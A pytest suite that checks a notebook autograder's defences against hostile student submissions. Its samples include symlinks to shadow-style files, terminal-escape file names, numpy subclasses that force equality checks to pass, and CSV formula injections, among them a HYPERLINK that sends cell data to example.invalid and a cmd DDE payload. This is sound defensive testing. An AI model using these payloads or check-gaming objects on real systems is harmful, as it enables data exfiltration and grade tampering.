"""The grader's perimeter: what a root grader does with hostile files, names, answers and CSVs.

Fast unit tests of :mod:`tools.grading.student_files` (links, hard links,
FIFOs, escaped names), then one small end-to-end batch (marked slow) graded
with the real tools, sandbox and nbgrader: each hostile submission's score,
flag and refusal reason is asserted, and honest classmates graded in the same
batch keep their exact scores.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import threading
import time
from dataclasses import asdict
from pathlib import Path

import nbformat
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra import numpy as npst
from test_grading import (
    ASSIGNMENT,
    EXPECTED_POINTS,
    FIND,
    WRONG_FIND,
    points,
    read_rows,
    run_tool,
    set_answer,
    total_note,
)

from kmeans_lab import checks
from kmeans_lab.checks.registry import REGISTRY
from kmeans_lab.checks.results import CheckFailure
from kmeans_lab.grading import transport
from kmeans_lab.grading.record import record_function
from tools.course_privacy import make_private_file, make_private_folder, warn_if_shared
from tools.csv_safe import FORMULA_STARTS, neutralise, read_csv, restore, write_csv
from tools.grading import replay as remote
from tools.grading import verdicts
from tools.grading.judge import Verdict, judge_answers, verdict_output
from tools.grading.runs import N_RANDOM, Run
from tools.grading.stage import parse_notebook, read_notebook
from tools.grading.student_files import (
    NOT_READABLE,
    other_names,
    printable,
    read_submission,
    read_submission_unprivileged,
)
from tools.sandbox import Limits, Sandbox, SandboxUnavailable
from tools.sandbox_ids import CGROUP_FOLDER, CGROUP_ROOT, SandboxCgroup, lease_uid, uid_range
from tools.submissions import filled

REPO = Path(__file__).resolve().parents[1]

# --- Reading a submission folder --------------------------------------------------------


@pytest.fixture
def folder(tmp_path):
    root = tmp_path / "submitted"
    (root / "ann" / ASSIGNMENT).mkdir(parents=True)
    return root


#: Both readers refuse the same files; the grader uses the unprivileged one.
READERS = pytest.mark.parametrize(
    "read", [read_submission, read_submission_unprivileged], ids=["as-is", "unprivileged"]
)


@READERS
def test_regular_files_are_read_and_links_never_followed(folder, tmp_path, read):
    mine = folder / "ann" / ASSIGNMENT
    secret = tmp_path / "shadow"
    secret.write_text("root:SECRET-HASH:19000:0:99999:7:::\n")
    (mine / "timestamp.txt").symlink_to(secret)
    (mine / "notes.txt").write_text("mine")
    (mine / "link-to-dir").symlink_to(tmp_path)
    os.mkfifo(mine / "pipe.ipynb")
    listing = read(folder, ["ann", ASSIGNMENT], {"timestamp.txt": 100, "notes.txt": 100})
    assert listing.problem is None
    by_name = {e.name: e for e in listing.entries}
    assert by_name["notes.txt"].data == b"mine"
    assert by_name["timestamp.txt"].data is None
    assert by_name["timestamp.txt"].refused == "a symbolic link: refused, never followed"
    assert by_name["link-to-dir"].refused == "a symbolic link: refused, never followed"
    assert by_name["pipe.ipynb"].refused.startswith("a FIFO, not a regular file")


@READERS
def test_a_hard_link_is_refused_and_its_other_names_found(folder, read):
    (folder / "bob" / ASSIGNMENT).mkdir(parents=True)
    theirs = folder / "bob" / ASSIGNMENT / f"{FIND}.ipynb"
    theirs.write_text("{}")
    os.link(theirs, folder / "ann" / ASSIGNMENT / f"{FIND}.ipynb")
    listing = read(folder, ["ann", ASSIGNMENT], {f"{FIND}.ipynb": 1000})
    entry = listing.get(f"{FIND}.ipynb")
    assert entry.data is None and entry.refused.startswith("a hard link (2 names for one file")
    assert other_names(folder, entry.inode, depth=3) == [
        f"ann/{ASSIGNMENT}/{FIND}.ipynb",
        f"bob/{ASSIGNMENT}/{FIND}.ipynb",
    ]


@READERS
def test_a_linked_folder_is_refused_with_nothing_read(folder, tmp_path, read):
    (tmp_path / "elsewhere").mkdir()
    (folder / "eve").symlink_to(folder / "ann")
    (folder / "ann" / "kmeans_lab2").symlink_to(tmp_path / "elsewhere")
    assert read(folder, ["eve", ASSIGNMENT], {}).problem == (
        "eve: a symbolic link, not a folder: refused, never followed"
    )
    assert read(folder, ["ann", "kmeans_lab2"], {}).problem.startswith(
        "ann/kmeans_lab2: a symbolic link"
    )
    assert read(folder, ["nobody", ASSIGNMENT], {}).problem == "nobody: missing"


@pytest.mark.skipif(os.geteuid() != 0, reason="the grader reads as itself when it is not root")
def test_a_root_grader_never_reads_a_submission_as_root(folder):
    mine = folder / "ann" / ASSIGNMENT
    uid = uid_range()[-1]  # a uid no test process runs as
    (mine / "timestamp.txt").write_text("2026-12-01 10:00:00 UTC")  # readable by all
    (mine / "private.txt").write_text("root's only")
    os.chmod(mine / "private.txt", 0o600)  # a file root can read and nobody else
    (mine / "theirs.txt").write_text("the reader's own")
    os.chown(mine / "theirs.txt", uid, uid)
    os.chmod(mine / "theirs.txt", 0o400)  # only that uid can read it: proof of who reads
    wanted = {"timestamp.txt": 100, "private.txt": 100, "theirs.txt": 100}
    listing = read_submission_unprivileged(folder, ["ann", ASSIGNMENT], wanted, uid=uid)
    by_name = {e.name: e for e in listing.entries}
    assert by_name["timestamp.txt"].data == b"2026-12-01 10:00:00 UTC"
    assert by_name["theirs.txt"].data == b"the reader's own"
    assert by_name["private.txt"].data is None
    assert by_name["private.txt"].refused == NOT_READABLE
    assert "chmod -R a+rX" in NOT_READABLE
    # what root reads (the grader before this reader) and the leased reader does not
    assert read_submission(folder, ["ann", ASSIGNMENT], wanted).get("private.txt").data
    leased = read_submission_unprivileged(folder, ["ann", ASSIGNMENT], wanted)
    assert leased.get("private.txt").refused == NOT_READABLE
    assert leased.get("theirs.txt").refused == NOT_READABLE  # the lease is another uid
    os.chmod(mine, 0o700)  # a folder only root may enter
    assert read_submission_unprivileged(folder, ["ann", ASSIGNMENT], wanted).problem == (
        f"ann/{ASSIGNMENT}: {NOT_READABLE}"
    )


def test_too_large_files_are_not_read(folder):
    (folder / "ann" / ASSIGNMENT / "big.ipynb").write_bytes(b"x" * 2000)
    entry = read_submission(folder, ["ann", ASSIGNMENT], {"big.ipynb": 1000}).get("big.ipynb")
    assert entry.data is None and entry.refused.startswith("too large (2,000 bytes")


def test_read_notebook_refuses_a_link_to_a_real_notebook(tmp_path):
    real = tmp_path / "real.ipynb"
    nbformat.write(nbformat.v4.new_notebook(), real)
    (tmp_path / "link.ipynb").symlink_to(real)
    assert read_notebook(real)[1] is None
    assert read_notebook(tmp_path / "link.ipynb") == (
        None,
        "a symbolic link: refused, never followed",
    )


@pytest.mark.parametrize(
    "raw, shown",
    [
        ("plain name.ipynb", "plain name.ipynb"),
        ("\x1b[2J\x1b[31mred", "\\x1b[2J\\x1b[31mred"),
        ("two\nlines\r", "two\\nlines\\r"),
        ("undecodable \udcff byte", "undecodable \\udcff byte"),
        ("bidi \u202egnp.exe", "bidi \\u202egnp.exe"),
        ("back\\slash", "back\\slash"),
        ("accents é ü 中文", "accents é ü 中文"),
    ],
)
def test_printable_escapes_what_a_terminal_would_obey(raw, shown):
    assert printable(raw) == shown
    printable(raw).encode("utf-8")  # never a lone surrogate
    assert all(ch.isprintable() for ch in printable(raw))
    assert printable(printable(raw)) == printable(raw)


# --- The judge: every answer gets a row, whatever it is --------------------------------

FUZZ = settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow], database=None
)
#: The exercises fuzzed (all of them: each has its own check and plan).
FUZZED = sorted(REGISTRY)


@pytest.fixture(scope="module")
def fuzz_run(tmp_path_factory):
    """A grading run with the plans of every exercise (as ``prepare_run`` makes them)."""
    folder = tmp_path_factory.mktemp("fuzz-run")
    (folder / "plans").mkdir()
    seeds = {name: 7 for name in REGISTRY}
    for name in REGISTRY:
        bundle = remote.plan(name, n_random=N_RANDOM[name], seed=seeds[name])
        (folder / "plans" / f"{name}.plan").write_bytes(bundle)
    return Run(folder, "fuzz", seeds, "")


def assert_a_clean_row(verdict, exercise):
    """A verdict that can go everywhere a verdict goes: JSON, the judged notebook, the CSVs."""
    assert isinstance(verdict, Verdict) and verdict.exercise == exercise
    assert verdict.points in (0.0, float(REGISTRY[exercise].points))
    assert verdict.passed == (verdict.points > 0)
    for text in (verdict.message, verdict.note, verdict.kind, verdict.case, verdict.diagnosis):
        text.encode("utf-8")
    json.dumps(asdict(verdict))
    csv.writer(io.StringIO()).writerow(asdict(verdict).values())
    nbformat.validate(
        nbformat.v4.new_notebook(
            cells=[nbformat.v4.new_code_cell(outputs=[verdict_output(verdict)])]
        )
    )


def recorded(exercise, run, func):
    """What the sandbox would send back for ``func``: its recording, or None if none was made."""
    try:
        return record_function(run.plan_file(exercise).read_bytes(), func)
    except Exception:  # nothing recorded: the judge says why from the cell's outputs
        return None


def hostile_messages():
    lone = st.integers(0xD800, 0xDFFF).map(chr)
    return st.lists(st.one_of(st.characters(), lone), max_size=30).map("".join)


#: Every kind of dtype numpy has, and arrays of them of every size (empty included).
ALL_DTYPES = st.one_of(
    npst.scalar_dtypes(),
    npst.byte_string_dtypes(),
    npst.unicode_string_dtypes(),
    npst.datetime64_dtypes(),
    npst.timedelta64_dtypes(),
    npst.complex_number_dtypes(),
    npst.array_dtypes(allow_subarrays=True),
)
ODD_SHAPES = npst.array_shapes(min_dims=0, max_dims=3, min_side=0, max_side=6)
ODD_ARRAYS = st.one_of(
    npst.arrays(ALL_DTYPES, ODD_SHAPES),
    # void arrays: hypothesis infers no elements for them, so they come zero-filled
    st.builds(lambda n, shape: np.zeros(shape, dtype=f"V{n}"), st.integers(1, 16), ODD_SHAPES),
    npst.arrays(
        st.sampled_from([np.float64, np.float32, np.float16]),
        npst.array_shapes(min_dims=1, max_dims=3, max_side=6),
        elements=st.sampled_from([np.nan, np.inf, -np.inf, 0.0, -0.0, 1e308]),
    ),
    st.builds(lambda n: np.empty((0,) * n), st.integers(1, 4)),
    st.builds(lambda a: np.array(a, dtype=object), st.lists(st.one_of(st.none(), st.text()))),
)
ODD_VALUES = st.one_of(
    ODD_ARRAYS,
    hostile_messages(),
    st.integers(-(10**30), 10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.complex_numbers(),
    st.lists(ODD_ARRAYS, max_size=3).map(tuple),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=3),
    st.none(),
)


@pytest.mark.parametrize("exercise", FUZZED)
@FUZZ
@given(value=ODD_VALUES)
def test_the_judge_gives_a_row_for_any_returned_value(fuzz_run, exercise, value):
    verdict = judge_answers(
        exercise, recorded(exercise, fuzz_run, lambda *a, **k: value), fuzz_run, "r"
    )
    assert_a_clean_row(verdict, exercise)
    assert not verdict.passed
    assert verdict.kind != "not judged", verdict.note  # the check itself says what is wrong


@pytest.mark.parametrize("exercise", FUZZED)
@FUZZ
@given(message=hostile_messages(), name=st.sampled_from(["ValueError", "KeyError", "Odd\u202e"]))
def test_the_judge_gives_a_row_for_any_exception_message(fuzz_run, exercise, message, name):
    error = type("E", (Exception,), {"__str__": lambda self: message})
    error.__name__ = error.__qualname__ = name

    def raises(*args, **kwargs):
        raise error(message)

    verdict = judge_answers(exercise, recorded(exercise, fuzz_run, raises), fuzz_run, "r")
    assert_a_clean_row(verdict, exercise)
    assert not verdict.passed and verdict.kind in ("exception", "not judged")


JSON = st.recursive(
    st.one_of(
        st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), hostile_messages()
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)


@pytest.mark.parametrize("exercise", ["find_closest_centroids", "init_centroids", "run_kmeans"])
@FUZZ
@given(
    field=st.sampled_from(
        ["identity", "signature", "calls", "result", "raised", "hit", "after", "lines"]
    ),
    junk=JSON,
    cut=st.integers(0, 400),
    noise=st.binary(max_size=64),
)
def test_the_judge_gives_a_row_for_any_malformed_recording(
    fuzz_run, exercise, field, junk, cut, noise
):
    plan = fuzz_run.plan_file(exercise).read_bytes()
    good = record_function(plan, lambda *args, **kwargs: np.zeros((3, 3)))
    document, arrays = transport.load(good)
    if field in ("identity", "signature", "calls"):
        document[field] = junk
    elif document["calls"]:
        document["calls"][0][field] = junk
    try:
        tampered = transport.dump(document, arrays)
    except transport.TransportError:
        tampered = good[:cut] + noise
    for answers in (tampered, good[:cut] + noise, noise):
        verdict = judge_answers(exercise, answers, fuzz_run, "r")
        assert_a_clean_row(verdict, exercise)


def test_a_failure_of_the_judge_is_a_not_graded_row(fuzz_run, monkeypatch):
    def crash(*args, **kwargs):
        raise TypeError("no \udc80 comparison for a void dtype\nsecond line")

    monkeypatch.setattr(remote, "replay", crash)
    plan = fuzz_run.plan_file("find_closest_centroids").read_bytes()
    verdict = judge_answers(
        "find_closest_centroids", record_function(plan, lambda X, c: X), fuzz_run, "r"
    )
    assert_a_clean_row(verdict, "find_closest_centroids")
    assert verdict.note == (
        "not graded: the grader could not judge this answer "
        "(TypeError: no \\udc80 comparison for a void dtype)"
    )
    assert (verdict.points, verdict.kind) == (0.0, "not judged")


def test_judged_notebooks_and_results_carry_no_lone_surrogate():
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("s = '\udc80'")])
    text = json.dumps(nb)  # as a student's editor may write it: "\udc80", a lone surrogate
    parsed, reason = parse_notebook(text.encode("ascii"))
    assert reason is None and parsed.cells[0].source == "s = '\\udc80'"
    nbformat.writes(parsed).encode("utf-8")


# --- The checks in the notebook: hostile return values fail clearly -------------------


class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False  # noqa: E731


class UfuncHijack(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True


class RaisingLen(np.ndarray):
    def __len__(self):
        raise RuntimeError("len refused")


class HugeLen(list):
    def __len__(self):
        return 10**18


class ArrayRaises:
    def __array__(self, dtype=None, copy=None):
        raise RuntimeError("no array for you")

    def __len__(self):
        return 5


class ArrayFunctionHijack(np.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        return True


class EqualToAnything(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


def _like(args, cls):
    """A plausible answer (zeros shaped like the first argument's rows) viewed as ``cls``."""
    first = next((a for a in args if isinstance(a, np.ndarray)), np.zeros(3))
    return np.zeros(first.shape[0] if first.ndim else 1, dtype=np.int64).view(cls)


HOSTILE = {
    "__eq__ always True": lambda *a, **k: _like(a, AlwaysEqual),
    "__array_ufunc__ hijacked": lambda *a, **k: _like(a, UfuncHijack),
    "__array_function__ hijacked": lambda *a, **k: _like(a, ArrayFunctionHijack),
    "__len__ raises": lambda *a, **k: _like(a, RaisingLen),
    "__len__ huge": lambda *a, **k: HugeLen([0, 1]),
    "__array__ raises": lambda *a, **k: ArrayRaises(),
    "int equal to anything": lambda *a, **k: EqualToAnything(3),
    "tuple of hijackers": lambda *a, **k: (_like(a, AlwaysEqual), _like(a, UfuncHijack), 0),
}


@pytest.mark.parametrize("exercise", FUZZED)
@pytest.mark.parametrize("hostile", sorted(HOSTILE))
def test_a_check_fails_clearly_on_a_hostile_return_value(exercise, hostile):
    check = getattr(checks, REGISTRY[exercise].check_name)
    with pytest.raises(CheckFailure) as failure:
        check(HOSTILE[hostile])
    message = str(failure.value)
    assert message.startswith(f"{exercise}: ")
    message.encode("utf-8")


# --- One hostile batch, end to end -------------------------------------------------------

TIMESTAMP = b"2026-12-06 10:00:00.000000 UTC"


def secret(student: str) -> bytes:
    """A submission secret as nbgrader submit writes one (token_hex(64)), one per student."""
    return (hashlib.sha256(student.encode()).hexdigest() * 2).encode()


SHADOW = "root:SHADOW-SECRET-HASH:19000:0:99999:7:::\n"
#: A file name that would clear the screen, retitle the terminal and fake a progress line.
ESCAPE_NAME = "\x1b]0;owned\x07\x1b[2J\n[9 of 9] zzz_honest: graded.ipynb"


FORMULA_CODE = '-1 + 1  # =HYPERLINK("http://example.invalid/?"&A1, "x")\n' + WRONG_FIND


def answer(release, source: str):
    return {FIND: set_answer(filled(release, FIND), source)}


def honest(release, **extra):
    return {FIND: filled(release, FIND), **extra}


#: student -> (files of the submission, points per exercise, text in the total's note, flagged)
#: A value ``("symlink", target)`` or ``("hardlink", student)`` makes a link instead of a file.
BATCH = {
    "aaa_honest": (
        lambda r, c: honest(
            r, **{"timestamp.txt": TIMESTAMP, "submission_secret.txt": secret("aaa_honest")}
        ),
        {"find_closest_centroids": 3},
        None,
        False,
    ),
    "stamp_shadow": (
        lambda r, c: honest(
            r,
            **{
                "timestamp.txt": ("symlink", c.parent / "shadow"),
                "submission_secret.txt": secret("stamp_shadow"),
            },
        ),
        {"find_closest_centroids": 3},
        "timestamp.txt: a symbolic link: refused, never followed",
        True,
    ),
    "stamp_runjson": (
        lambda r, c: honest(r, **{"timestamp.txt": ("symlink", c / "autograde" / "run.json")}),
        {"find_closest_centroids": 3},
        "timestamp.txt: a symbolic link: refused, never followed",
        True,
    ),
    "bad_stamp": (
        lambda r, c: honest(
            r, **{"timestamp.txt": b"yesterday-ish", "submission_secret.txt": secret("bad_stamp")}
        ),
        {"find_closest_centroids": 3},
        "timestamp.txt: not a timestamp nbgrader can read",
        True,
    ),
    "hardlink_victim": (lambda r, c: honest(r), {}, "also at hardlink_thief/", True),
    "hardlink_thief": (
        lambda r, c: {FIND: ("hardlink", "hardlink_victim")},
        {},
        "a hard link (2 names for one file",
        True,
    ),
    "escape_name": (
        lambda r, c: honest(r, **{ESCAPE_NAME: b"{}"}),
        {"find_closest_centroids": 3},
        "ignored (not graded, never run): " + printable(ESCAPE_NAME),
        False,
    ),
    # answers no check foresaw: a row each, 0 points, the reason
    "struct_dtype": (
        lambda r, c: answer(
            r,
            "import numpy as np\ndef find_closest_centroids(X, centroids):\n"
            "    return np.zeros(len(X), dtype=[('label', 'i8'), ('pad', 'V3')])\n",
        ),
        {},
        "CheckFailure: find_closest_centroids: case 1 of",
        False,
    ),
    "surrogate_message": (
        lambda r, c: answer(
            r,
            "def find_closest_centroids(X, centroids):\n"
            "    raise ValueError('lone \\udc80 surrogate \\x1b[2J')\n",
        ),
        {},
        "raised ValueError",
        False,
    ),
    # code that a spreadsheet would run as a formula, in verdicts.csv and report/diagnoses.csv
    "formula_code": (lambda r, c: answer(r, FORMULA_CODE), {}, "case 1 of", False),
    "zzz_honest": (lambda r, c: honest(r), {"find_closest_centroids": 3}, None, False),
}
HONEST = ("aaa_honest", "zzz_honest")


def write_files(course: Path, student: str, files: dict) -> None:
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True)
    for name, content in files.items():
        path = folder / (name if "." in name else f"{name}.ipynb")
        if isinstance(content, tuple) and content[0] == "symlink":
            path.symlink_to(content[1])
        elif isinstance(content, tuple) and content[0] == "hardlink":
            os.link(course / "submitted" / content[1] / ASSIGNMENT / path.name, path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            nbformat.write(content, path)


def every_text(folder: Path) -> str:
    """All the bytes of every file below ``folder``, as text (links not followed)."""
    chunks = []
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            chunks.append(path.read_bytes().decode("utf-8", "replace"))
    return "\n".join(chunks)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if shutil.which("bwrap") is None and os.environ.get("KMEANS_LAB_REQUIRE_SANDBOX") != "1":
        pytest.skip("bubblewrap is not installed (apt-get install bubblewrap): no grading sandbox")
    tmp = tmp_path_factory.mktemp("perimeter")
    course = tmp / "course"
    course.mkdir()
    shutil.copy2(REPO / "course" / "nbgrader_config.py", course)
    (tmp / "shadow").write_text(SHADOW)
    os.chmod(tmp / "shadow", 0o600)
    run_tool("release", "--course", str(course), "--student-dir", str(tmp / "student"))
    release = course / "release" / ASSIGNMENT
    for student, (build, _, _, _) in BATCH.items():
        write_files(course, student, build(release, course))
    autograde = run_tool("autograde", "--course", str(course), "--seed", "5", WORKERS="2")
    run_tool("grades", "--course", str(course))
    run_tool("feedback", "--course", str(course))
    run_tool("report", "--course", str(course))
    (tmp / "exchange").mkdir()
    released = subprocess.run(
        [
            str(Path(sys.executable).parent / "nbgrader"),
            "release_feedback",
            ASSIGNMENT,
            f"--Exchange.root={tmp / 'exchange'}",
            "--CourseDirectory.course_id=kmeans-lab",
        ],
        cwd=course,
        capture_output=True,
        text=True,
        timeout=300,
    )
    return {
        "course": course,
        "tmp": tmp,
        "stdout": autograde.stdout + autograde.stderr,
        "rows": read_rows(course),
        "released": released,
    }


@pytest.mark.slow
@pytest.mark.parametrize("student", sorted(BATCH))
def test_batch_scores_reasons_and_flags(batch, student):
    _, expected, note, flagged = BATCH[student]
    want = {ex: float(expected.get(ex, 0)) for ex in EXPECTED_POINTS}
    assert points(batch["rows"], student) == want
    notes = " | ".join(r["note"] for r in batch["rows"] if r["student"] == student)
    if note is not None:
        assert note in notes, notes
    assert ("review by hand" in total_note(batch["rows"], student)) == flagged, notes


@pytest.mark.slow
def test_no_secret_behind_a_link_reaches_any_output(batch):
    course = batch["course"]
    seeds = json.loads((course / "autograde" / "run.json").read_text())["seeds"]
    outputs = "\n".join(
        [batch["stdout"]]
        + [
            every_text(course / name)
            for name in ("autograde/judged", "autograde/results", "autograded", "feedback")
        ]
        + [
            (course / name).read_text(encoding="utf-8")
            for name in ("grades.csv", "verdicts.csv", "autograde.log", "autograde_report.json")
        ]
        + [(course / "autograde" / "log.txt").read_text(encoding="utf-8")]
    )
    assert "SHADOW-SECRET" not in outputs
    assert not any(str(seed) in outputs for seed in seeds.values())
    for student in ("stamp_shadow", "stamp_runjson"):
        judged = course / "autograde" / "judged" / student / ASSIGNMENT
        assert (
            not (judged / "timestamp.txt").exists()
            or (judged / "timestamp.txt").read_bytes() == b""
        )


@pytest.mark.slow
def test_escaped_names_in_the_output_the_log_and_the_csv(batch):
    course = batch["course"]
    log = (course / "autograde" / "log.txt").read_text(encoding="utf-8")
    grades = (course / "grades.csv").read_text(encoding="utf-8")
    for text in (batch["stdout"], log, grades):
        assert "\x1b" not in text and "\x07" not in text
    assert printable(ESCAPE_NAME) in batch["stdout"]
    assert not any(line.startswith("[9 of 9]") for line in batch["stdout"].splitlines())


@pytest.mark.slow
def test_exchange_files_reach_autograded_and_feedback_and_release_feedback_finds_them(batch):
    from nbgrader.utils import notebook_hash

    course = batch["course"]
    for step in ("autograded", "feedback"):
        folder = course / step / "aaa_honest" / ASSIGNMENT
        assert (folder / "timestamp.txt").read_bytes() == TIMESTAMP
        assert (folder / "submission_secret.txt").read_bytes() == secret("aaa_honest")
    assert batch["released"].returncode == 0, batch["released"].stdout + batch["released"].stderr
    released = batch["tmp"] / "exchange" / "kmeans-lab" / "feedback"
    for student in ("aaa_honest", "stamp_shadow", "bad_stamp"):
        name = notebook_hash(secret=secret(student).decode(), notebook_id=FIND) + ".html"
        assert (released / name).is_file(), student
    rows = [r for r in batch["rows"] if r["exercise"] == "total"]
    assert not any("submission_secret.txt" in r["note"] and "ignored" in r["note"] for r in rows)
    assert not any("timestamp.txt" in r["note"] and "ignored" in r["note"] for r in rows)


@pytest.mark.slow
def test_no_csv_cell_is_a_formula_and_verdicts_read_back_exactly(batch):
    course = batch["course"]
    written = [
        course / "grades.csv",
        course / "verdicts.csv",
        *sorted((course / "report").glob("*.csv")),
    ]
    assert {p.name for p in written} >= {
        "grades.csv",
        "verdicts.csv",
        "diagnoses.csv",
        "scores.csv",
    }
    for path in written:
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS) or float(cell) == float(cell), (
                        path.name,
                        cell[:60],
                    )
    # the code column holds the source that was graded (the function, its imports,
    # constants and helpers), not the whole cell: the formula-looking first line of this
    # student's cell is not part of it; any cell that starts like a formula is neutralised
    # (the loop above), and every cell reads back exactly (below)
    rows = verdicts.read(course)
    mine = next(
        r
        for r in rows
        if r["student"] == "formula_code" and r["exercise"] == "find_closest_centroids"
    )
    assert "def find_closest_centroids" in mine["code"] and "-1 + 1" not in mine["code"]


# --- CSV cells ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        ("-1e-3", "-1e-3"),
        ("'already", "''already"),
        ("plain text", "plain text"),
        (None, ""),
        (3, "3"),
    ],
)
def test_formula_cells_are_neutralised(value, cell):
    assert neutralise(value) == cell


@settings(max_examples=300, deadline=None, database=None)
@given(text=st.text())
def test_neutralised_cells_read_back_exactly(text):
    cell = neutralise(text)
    assert restore(cell) == text
    assert not cell.startswith(FORMULA_STARTS) or float(cell) == float(cell)


def test_write_csv_neutralises_every_cell_and_read_csv_restores_them(tmp_path):
    rows = [{"a": "=cmd|' /C calc'!A0", "b": "-1"}, {"a": "@SUM(1)", "b": "'q"}]
    path = write_csv(tmp_path / "x.csv", ["a", "b"], rows)
    with open(path, newline="", encoding="utf-8") as f:
        assert list(csv.reader(f)) == [
            ["a", "b"],
            ["'=cmd|' /C calc'!A0", "-1"],
            ["'@SUM(1)", "''q"],
        ]
    assert read_csv(path) == rows


# --- The course folder is private ------------------------------------------------------


def test_private_folders_and_files(tmp_path):
    course = make_private_folder(tmp_path / "a" / "course")
    assert stat.S_IMODE(course.stat().st_mode) == 0o700
    db = course / "gradebook.db"
    db.write_text("")
    os.chmod(db, 0o644)
    make_private_file(db)
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    make_private_file(course / "missing.db")  # nothing to do, no error


@pytest.mark.parametrize(
    "mode, warned",
    [
        (0o700, None),
        (0o750, "readable"),
        (0o755, "readable"),
        (0o703, "writable"),
        (0o777, "readable and writable"),
    ],
)
def test_a_course_others_can_read_or_write_is_warned_about_in_one_line(
    tmp_path, capsys, mode, warned
):
    course = tmp_path / "course"
    course.mkdir()
    os.chmod(course, mode)
    assert warn_if_shared(course, "make release") == (warned is not None)
    err = capsys.readouterr().err
    if warned is None:
        assert err == ""
    else:
        assert err.count("\n") == 1
        assert err.startswith(f"make release: warning: {course} is {warned} by other users")
        assert f"chmod 700 {course}" in err


@pytest.mark.slow
def test_secrets_and_gradebook_are_private_and_the_shared_course_warned_about(batch):
    course = batch["course"]
    assert stat.S_IMODE((course / "autograde").stat().st_mode) == 0o700
    assert stat.S_IMODE((course / "autograde" / "run.json").stat().st_mode) == 0o600
    assert stat.S_IMODE((course / "gradebook.db").stat().st_mode) == 0o600
    assert f"make autograde: warning: {course} is readable by other users" in batch["stdout"]


# --- A uid and a cgroup per sandbox --------------------------------------------------------

needs_root_sandbox = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("bwrap") is None,
    reason="uids are leased only when the grader is root, with bubblewrap",
)


def _uids_of_this_test(monkeypatch, count: int) -> None:
    """A range of ``count`` uids no other grader's sandbox uses (theirs start at 61000)."""
    monkeypatch.setenv("KMEANS_LAB_SANDBOX_UID", str(64000 + os.getpid() % 1000 * 4))
    monkeypatch.setenv("KMEANS_LAB_SANDBOX_UIDS", str(count))


@needs_root_sandbox
def test_concurrent_leases_never_share_a_uid_and_a_released_uid_is_reused(tmp_path, monkeypatch):
    _uids_of_this_test(monkeypatch, 3)
    leases = [lease_uid(timeout=1, folder=tmp_path) for _ in range(3)]
    assert len({lease.uid for lease in leases}) == 3
    assert {lease.uid for lease in leases} <= set(uid_range())
    with pytest.raises(RuntimeError, match="no free sandbox uid"):
        lease_uid(timeout=0.5, folder=tmp_path)
    freed = leases[1].uid
    leases[1].release()
    again = lease_uid(timeout=1, folder=tmp_path)
    assert again.uid == freed
    for lease in [leases[0], leases[2], again]:
        lease.release()


@needs_root_sandbox
def test_a_lease_is_machine_wide_another_process_holding_it_is_seen(tmp_path, monkeypatch):
    _uids_of_this_test(monkeypatch, 2)
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from tools.sandbox_ids import lease_uid; from pathlib import Path\n"
            f"lease = lease_uid(folder=Path({str(tmp_path)!r})); print(lease.uid, flush=True)\n"
            "time.sleep(30)",
        ],
        cwd=REPO,
        stdout=subprocess.PIPE,
        text=True,
        env=dict(os.environ, KMEANS_LAB_SANDBOX_UIDS="2"),
    )
    try:
        held = int(holder.stdout.readline())
        with lease_uid(timeout=1, folder=tmp_path) as mine:
            assert mine.uid != held
    finally:
        holder.kill()
        holder.wait()
    with lease_uid(timeout=1, folder=tmp_path) as first:  # the holder died: its uid is free
        assert first.uid == uid_range()[0]


@needs_root_sandbox
def test_each_sandbox_has_its_own_cgroup_where_the_machine_allows_it(tmp_path):
    package = tmp_path / "package"
    shutil.copytree(REPO / "kmeans_lab", package / "kmeans_lab")
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    for folder in (tmp_path, package, inputs):
        os.chmod(folder, 0o755)
    probe = SandboxCgroup("probe", 1, 1 << 20).create()
    probe.remove()
    if not probe.folders and probe.unavailable and "pids" in probe.unavailable:
        pytest.skip(f"no cgroup per sandbox on this machine: {probe.unavailable}")
    seen = {}

    def watch():
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not seen:
            # this process's sandboxes only (sandbox-<uid>-<grader pid>-<n>): another test
            # process (pytest-xdist's other worker) may be running one of its own meanwhile
            for folder in CGROUP_ROOT.glob(f"*/{CGROUP_FOLDER}/sandbox-*-{os.getpid()}-*"):
                if (folder / "pids.max").exists():
                    procs = (folder / "cgroup.procs").read_text().split()
                    if procs:
                        seen[folder] = ((folder / "pids.max").read_text().strip(), len(procs))
            time.sleep(0.05)

    watcher = threading.Thread(target=watch)
    watcher.start()
    result = Sandbox(package, Limits(wall_seconds=30)).run(
        inputs, ["-c", "import time; time.sleep(4)"]
    )
    watcher.join()
    assert result.returncode == 0, result.stderr
    assert seen, "no cgroup of the sandbox was seen while it ran"
    (folder, (pids_max, procs)), *_ = seen.items()
    assert pids_max == str(Limits().processes) and procs >= 1
